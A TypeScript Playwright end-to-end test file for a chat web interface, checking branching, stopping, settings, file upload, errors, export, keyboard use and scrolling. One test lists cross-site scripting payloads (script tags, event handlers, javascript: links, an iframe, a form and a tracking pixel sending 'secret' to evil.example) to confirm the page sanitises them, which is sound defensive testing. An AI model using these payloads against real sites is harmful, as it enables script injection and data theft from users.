// The chat page as somebody uses it, with a coordinator in the test's hands.

import { readFileSync } from "node:fs";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from "vitest";

import { inPieces, PageServer } from "./harness/page_server.ts";
import { readyStatus } from "./harness/statuses.ts";
import { sharedBrowser } from "./harness/browsers.ts";

let server: PageServer;
let browser: Browser;
let context: BrowserContext;
let page: Page;
const errors: string[] = [];

beforeAll(async () => {
  server = await PageServer.start();
  server.status = readyStatus;
  browser = await sharedBrowser();
});

afterAll(async () => {
  await server.stop();
});

beforeEach(async () => {
  server.asked.length = 0;
  // Says which question it answers, and for which time.
  server.answering = ({ messages }) => {
    const text = `Answer ${server.asked.length} to ${messages.at(-1)!.content}`;
    return { kind: "pieces", pieces: inPieces(text) };
  };
  context = await browser.newContext({ permissions: ["clipboard-read", "clipboard-write"] });
  page = await context.newPage();
  page.on("pageerror", (error) => errors.push(error.message));
  await page.goto(server.url);
});

afterEach(async () => {
  await context.close();
  expect(errors.splice(0)).toEqual([]);
});

const answers = () => page.getByTestId("message-assistant");
const texts = () => page.getByTestId("message-text").allInnerTexts();

async function ask(text: string): Promise<void> {
  const before = await answers().count();
  await page.getByTestId("chat-input").fill(text);
  await page.keyboard.press("Enter");
  await answers().nth(before).getByTestId("message-facts").waitFor();
}

it("answers again, edits, and keeps every branch across a reload", async () => {
  await ask("one");
  await ask("two");
  await page.getByTestId("message-regenerate").last().click();
  await expect.poll(texts).toEqual(["one", "Answer 1 to one", "two", "Answer 3 to two"]);
  expect(server.asked[2]!.messages).toEqual(server.asked[1]!.messages);

  await page.getByRole("button", { name: "Edit message" }).first().click();
  await page.getByTestId("message-edit").locator("textarea").fill("uno");
  await page.keyboard.press("Enter");
  await expect.poll(texts).toEqual(["uno", "Answer 4 to uno"]);
  expect(server.asked[3]!.messages).toEqual([{ role: "user", content: "uno" }]);

  await page.getByRole("button", { name: "Previous version" }).click();
  await expect.poll(texts).toEqual(["one", "Answer 1 to one", "two", "Answer 3 to two"]);
  await page.getByRole("button", { name: "Previous version" }).last().click();
  await expect.poll(texts).toEqual(["one", "Answer 1 to one", "two", "Answer 2 to two"]);

  await page.reload();
  await expect.poll(texts).toEqual(["one", "Answer 1 to one", "two", "Answer 2 to two"]);
  expect(await page.getByTestId("message-versions").count()).toBe(2);
});

it("lets nothing of an answer run, load or hide in the page", async () => {
  const requests: string[] = [];
  page.on("request", (request) => requests.push(request.url()));
  await page.evaluate(() => Object.assign(globalThis, { hit: 0 }));
  const hostile = [
    "<img src=x onerror='hit=1'>",
    "<script>hit=1</script>",
    "<svg onload=hit=1><style>*{display:none}</style></svg>",
    "[a](javascript:hit=1) [b](data:text/html,x) [c](vbscript:x) [d](//evil.example/x)",
    "![pixel](https://evil.example/pixel.png?said=secret)",
    "<a href='javascript:hit=1' id=prompt class=dialog>go</a>",
    "$\\href{javascript:hit=1}{x}$ $\\htmlClass{dialog}{y}$",
    "$\\includegraphics{https://evil.example/i}$",
    "```html\n<img src=x onerror=hit=1>\n```",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<form action=https://evil.example><input name=q>",
    "| <b onmouseover=hit=1>h</b> |\n|---|\n| x |",
  ].join("\n\n");
  server.answering = () => ({ kind: "pieces", pieces: inPieces(hostile) });
  await ask("try");
  await page.locator(".katex").first().waitFor();
  const answer = page.getByTestId("message-text").last();
  const found = await answer.evaluate((root) => {
    const elements = [...root.querySelectorAll("*")];
    const handlers = elements.filter((e) => [...e.attributes].some(({ name }) => /^on/.test(name)));
    const links = [...root.querySelectorAll("a")].map((link) => link.getAttribute("href"));
    const bad = root.querySelectorAll("script, img, iframe, form, input, style, [id], .dialog");
    const loose = [...root.querySelectorAll("a[href]")].filter(
      (link) => link.getAttribute("rel") !== "noopener noreferrer nofollow",
    );
    return { handlers: handlers.length, links, bad: bad.length, loose: loose.length };
  });
  expect(found.handlers).toBe(0);
  expect(found.bad).toBe(0);
  expect(found.loose).toBe(0);
  expect(found.links.filter((href) => href !== null)).toEqual([
    "https://evil.example/pixel.png?said=secret",
  ]);
  expect(await page.evaluate(() => (globalThis as unknown as { hit: number }).hit)).toBe(0);
  expect(requests.filter((url) => !url.startsWith(server.url))).toEqual([]);
});

it("stops, keeps what was said, and goes on in another chat meanwhile", async () => {
  server.answering = () => ({ kind: "pieces", pieces: inPieces("word ".repeat(400), 15) });
  await page.getByTestId("chat-input").fill("long");
  await page.keyboard.press("Enter");
  await expect.poll(async () => (await texts())[1]).toMatch(/word/);
  // Another chat, while the first is being answered.
  await page.getByTestId("chat-clear").click();
  expect(await page.getByTestId("chat-send").isVisible()).toBe(true);
  await page.getByTestId("conversation").click();
  await expect.poll(async () => (await texts())[1]).toMatch(/word/);
  const before = (await texts())[1]!.length;
  await expect.poll(async () => (await texts())[1]!.length).toBeGreaterThan(before);
  await page.keyboard.press("Escape");
  await expect.poll(() => page.getByTestId("message-facts").textContent()).toContain("stopped");
  expect(await page.getByTestId("announcer").textContent()).toMatch(/^word/);
});

it("sends the system prompt and the sampling settings, and keeps them", async () => {
  await page.getByTestId("open-settings").click();
  await page.getByTestId("setting-system").fill("Be brief.");
  await page.getByTestId("setting-temperature").fill("0.3");
  await page.getByTestId("setting-seed").fill("7");
  await page.getByTestId("settings-save").click();
  await ask("hi");
  const [body] = server.asked;
  expect(body!.messages[0]).toEqual({ role: "system", content: "Be brief." });
  expect(body).toMatchObject({ temperature: 0.3, seed: 7, stream: true });
  expect(body).not.toHaveProperty("top_p");
  await page.reload();
  await page.getByTestId("open-settings").click();
  expect(await page.getByTestId("setting-system").inputValue()).toBe("Be brief.");
});

it("sends files as text, and refuses others", async () => {
  const input = page.getByTestId("file-input");
  await input.setInputFiles({ name: "a.png", mimeType: "image/png", buffer: Buffer.from([0, 1]) });
  await page.getByTestId("file-problem").getByText("not text").waitFor();
  const buffer = Buffer.from("alpha\n");
  await input.setInputFiles({ name: "a.txt", mimeType: "text/plain", buffer });
  await page.locator("#files li").waitFor();
  await ask("What is in it?");
  expect(server.asked[0]!.messages[0]!.content).toBe("a.txt:\n```\nalpha\n```\n\nWhat is in it?");
});

it("tells what went wrong, and asks again", async () => {
  server.answering = () => ({ kind: "refusal", status: 429, message: "Too many at once." });
  await page.getByTestId("chat-input").fill("hi");
  await page.keyboard.press("Enter");
  await page.getByTestId("chat-error").getByText("Too many at once.").waitFor();
  server.answering = () => ({ kind: "pieces", pieces: inPieces("half an"), breakOff: true });
  await page.getByTestId("chat-retry").click();
  await page
    .getByTestId("chat-error")
    .getByText(/ended in the middle|cannot be reached/)
    .waitFor();
  expect((await texts())[1]).toBe("half an");
  server.answering = () => ({ kind: "pieces", pieces: inPieces("whole") });
  await page.getByTestId("chat-retry").click();
  await expect.poll(texts).toEqual(["hi", "whole"]);
  expect(server.asked.map(({ messages }) => messages.length)).toEqual([1, 1, 1]);
});

it("exports, deletes, brings back and imports", async () => {
  await ask("keep me");
  const downloading = page.waitForEvent("download");
  await page.getByTestId("export-all").click();
  const file = await (await downloading).path();
  expect(JSON.parse(readFileSync(file, "utf8"))).toMatchObject({ format: "shoal-conversations" });

  await page.locator(".menu summary").click();
  await page.getByRole("button", { name: "Delete" }).click();
  await expect.poll(() => page.getByTestId("conversation").count()).toBe(0);
  await page.getByTestId("toast-action").click();
  await expect.poll(texts).toEqual(["keep me", "Answer 1 to keep me"]);

  await page.locator("#import-input").setInputFiles(file);
  await expect.poll(() => page.getByTestId("conversation").count()).toBe(2);
  const buffer = Buffer.from("[]");
  await page.locator("#import-input").setInputFiles({ name: "x", mimeType: "a/b", buffer });
  await page.getByTestId("toast").getByText("no exported conversations").waitFor();
});

it("can be used with the keyboard alone", async () => {
  const press = async (...keys: string[]): Promise<void> => {
    for (const key of keys) await page.keyboard.press(key);
  };
  await page.keyboard.type("first");
  await press("Enter");
  await answers().getByTestId("message-facts").waitFor();
  // Copy and answer again, from the message box backwards.
  await press("Shift+Tab");
  const focused = () => page.evaluate(() => document.activeElement?.getAttribute("aria-label"));
  expect(await focused()).toBe("Answer again");
  await press("Shift+Tab", "Enter");
  await expect
    .poll(() => page.evaluate(() => navigator.clipboard.readText()))
    .toBe("Answer 1 to first");
  await press("Control+j", "ArrowUp");
  await page.keyboard.type(" edited");
  await press("Enter");
  await expect.poll(texts).toEqual(["first edited", "Answer 2 to first edited"]);
  await press("Control+Shift+O");
  expect(await answers().count()).toBe(0);
  await page.keyboard.type("second chat");
  await press("Enter");
  await answers().getByTestId("message-facts").waitFor();
  expect(await page.getByTestId("conversation").count()).toBe(2);
});

it("shows a token on its way through the swarm while an answer comes", async () => {
  server.answering = () => ({ kind: "pieces", pieces: inPieces("word ".repeat(60), 60) });
  await page.getByTestId("strip-text").getByText("3\u00a0volunteers").waitFor();
  await page.getByTestId("chat-input").fill("long");
  await page.keyboard.press("Enter");
  const picture = page.getByTestId("answer-picture");
  await expect.poll(() => picture.locator(".span").count()).toBe(3);
  expect(await picture.getByRole("img").getAttribute("aria-label")).toBe(
    "3 volunteers hold 14 blocks; a token passes 3 volunteers.",
  );
  // One dot, looked at from its birth to its end: from the first block to the last, and down the
  // lanes.
  const way = await picture.evaluate(async (root) => {
    const circle = await new Promise<Element>((resolve) => {
      new MutationObserver((records, observer) => {
        for (const node of records.flatMap(({ addedNodes }) => [...addedNodes])) {
          if (!(node instanceof SVGCircleElement) || node.matches(".prompt")) continue;
          observer.disconnect();
          resolve(node);
        }
      }).observe(root, { childList: true, subtree: true });
    });
    const places: [number, number][] = [];
    while (circle.isConnected) {
      const { x, y } = circle.getBoundingClientRect();
      places.push([x, y]);
      await new Promise(requestAnimationFrame);
    }
    return places;
  });
  const lefts = way.map(([x]) => x);
  expect(lefts).toEqual([...lefts].sort((a, b) => a - b));
  const box = (await picture.getByRole("img").boundingBox())!;
  expect(lefts.at(-1)! - lefts[0]!).toBeGreaterThan(box.width / 2);
  expect(way.at(-1)![1]).toBeGreaterThan(way[0]![1]);
  await expect.poll(() => picture.textContent()).toMatch(/tokens\/s . through #1 → #2 → #3/);
  await page.keyboard.press("Escape");
  await picture.waitFor({ state: "detached" });
});

it("keeps still for those who ask for that", async () => {
  server.answering = () => ({ kind: "pieces", pieces: inPieces("word ".repeat(30), 40) });
  await page.emulateMedia({ reducedMotion: "reduce" });
  await page.getByTestId("strip-text").getByText("3\u00a0volunteers").waitFor();
  await page.getByTestId("chat-input").fill("long");
  await page.keyboard.press("Enter");
  const picture = page.getByTestId("answer-picture");
  await picture.getByText(/tokens\/s/).waitFor();
  expect(await picture.locator("circle").count()).toBe(0);
  expect(await picture.locator(".route.running").count()).toBe(1);
});

it("keeps the end in view while it grows, unless the reader scrolls back", async () => {
  const text = "- a line\n".repeat(10);
  const piecesOf = (count: number, afterMs: number) => Array(count).fill({ text, afterMs });
  // It still grows when the reader has scrolled back, and until it is stopped.
  server.answering = () => ({ kind: "pieces", pieces: [...piecesOf(8, 80), ...piecesOf(60, 400)] });
  await page.setViewportSize({ width: 390, height: 500 });
  await page.getByTestId("chat-input").fill("long");
  await page.keyboard.press("Enter");
  const log = page.getByTestId("chat-log");
  const below = (): Promise<number> =>
    log.evaluate((at) => at.scrollHeight - at.scrollTop - at.clientHeight);
  const height = (): Promise<number> => log.evaluate((at) => at.scrollHeight);
  await expect.poll(height).toBeGreaterThan(1200);
  // Each growth is followed within a frame or two.
  await expect.poll(below).toBeLessThan(3);
  await log.hover();
  await page.mouse.wheel(0, -400);
  await expect.poll(below).toBeGreaterThan(200);
  const grown = await height();
  await expect.poll(height).toBeGreaterThan(grown + 200);
  expect(await below()).toBeGreaterThan(300);
  await page.mouse.wheel(0, 100_000);
  await expect.poll(below).toBeLessThan(3);
  await page.keyboard.press("Escape");
});
